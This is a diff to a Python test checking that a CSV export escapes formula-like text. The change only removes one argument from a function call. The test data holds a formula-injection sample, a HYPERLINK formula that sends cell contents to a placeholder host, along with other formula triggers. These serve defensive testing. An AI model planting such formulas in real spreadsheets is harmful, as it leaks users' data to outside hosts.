@@ -543,7 +543,7 @@ def test_texts_in_the_table_of_elites_are_no_formulas_and_numbers_stay_numbers(t
     texts = np.array(['=HYPERLINK("http://x.example/?"&A1)', "+1-1", "@SUM(1)", "A plain one."])
     measures = np.zeros((4, len(bins.dims))) + np.arange(4)[:, None]
     found = Elites(np.arange(4), texts, np.array([-0.25, 1, 1, 1]), measures)
-    write_texts(tmp_path, STORIES, bins, found)
+    write_texts(tmp_path, STORIES, found)
     with (tmp_path / "elites.csv").open(newline="") as file:
         rows = list(csv.DictReader(file))
     assert [row["text"] for row in rows] == [f"'{text}" for text in texts[:3]] + ["A plain one."]
